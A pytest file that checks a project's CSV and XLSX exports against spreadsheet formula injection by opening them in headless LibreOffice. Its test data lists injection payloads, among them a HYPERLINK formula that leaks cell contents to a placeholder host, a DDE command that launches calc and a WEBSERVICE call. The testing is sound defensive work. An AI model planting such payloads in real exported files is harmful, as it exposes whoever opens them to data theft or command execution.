"""A real spreadsheet program opens the tables: nothing runs, and every cell is as it was given."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
import synthetic
from perennial.render import sheets, workbook

HOSTILE = (
    '=HYPERLINK("http://192.0.2.1/?"&A1,"a click")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    '=WEBSERVICE("http://192.0.2.1/")',
    "{=1+1}",
    "\t=1+1",
    "a\n=1+1",
    'a","=1+1',
    "a;=1+1;",
    "'=1+1",
    " =1+1",
    "_x003D_1+1",
    "<script>alert(1)</script> &amp; \u202e=1+1",
    "MARCH1",
    "#REF!",
)
# LibreOffice's own numbers for: comma, ", UTF-8, from line 1, every column as found, US English,
# quoted cells are not taken for text, numbers detected, formulas run: the least careful reader.
CARELESS = "CSV:44,34,76,1,,1033,false,true,false,false,false,0,true"


def _hostile() -> tuple[sheets.Table, ...]:
    review = synthetic.review()
    first = review.statements[0]
    odd = [replace(first, id=f"i{n}", factor=t, quote=t) for n, t in enumerate(HOSTILE)]
    return sheets.tables(replace(review, statements=tuple(odd)))


@pytest.fixture(scope="module")
def opened(tmp_path_factory):
    """A function: name, content and options to the workbook that LibreOffice makes of it."""
    office = shutil.which("soffice")
    if not office:
        pytest.skip("NOT CHECKED: no soffice, so no spreadsheet program has opened the tables")
    folder = tmp_path_factory.mktemp("office")
    profile = f"-env:UserInstallation=file://{folder}/profile"

    def opened(name: str, content: bytes, *options: str) -> openpyxl.Workbook | None:
        (folder / name).write_bytes(content)
        told = ["--convert-to", "xlsx", "--outdir", f"{folder}/out", f"{folder}/{name}"]
        command = [office, profile, "--headless", *options, *told]
        subprocess.run(command, check=True, timeout=120, capture_output=True)
        made = folder / "out" / Path(name).with_suffix(".xlsx")
        return openpyxl.load_workbook(made) if made.exists() else None

    if opened("plain.csv", b"a\n1\n") is None:
        pytest.skip("NOT CHECKED: soffice is here without Calc, and has not opened the tables")
    return opened


def _columns(sheet: openpyxl.worksheet.worksheet.Worksheet) -> dict[str, list]:
    heads, *rows = sheet.iter_rows()
    return {head.value: [row[n] for row in rows] for n, head in enumerate(heads)}


def test_a_spreadsheet_runs_nothing_of_the_csv(opened):
    content = sheets.as_csv(_hostile()[0])
    book = opened("evidence.csv", content, f"--infilter={CARELESS}")
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type in "fe" or c.hyperlink] == []
    rows = list(csv.DictReader(io.StringIO(content.decode(), newline="")))
    quotes = [cell.value for cell in _columns(book.active)["quote"]]
    assert [q for q in quotes if q.startswith(("=", "@", "+", "-"))] == []
    assert [q.strip() for q in quotes] == [row["quote"].strip() for row in rows]


def test_what_a_spreadsheet_reads_of_the_workbook_is_what_was_written(opened):
    content = workbook.as_xlsx(_hostile(), [])
    book = opened("data.xlsx", content)
    found = _columns(book["evidence"])
    assert {cell.data_type for cell in found["quote"]} == {"s"}
    expected = [text.replace("\u202e", "[U+202E]") for text in HOSTILE]
    assert [cell.value for cell in found["quote"]] == expected
    assert [cell.value for cell in found["factor"]] == expected
    assert not [c for row in book["evidence"].iter_rows() for c in row if c.hyperlink]


def test_the_careless_reader_would_run_a_formula(opened):
    """Or the test of the CSV could not fail."""
    book = opened("bare.csv", b"a,b\n=1+1,x\n", f"--infilter={CARELESS}")
    assert book.active["A2"].data_type == "f"
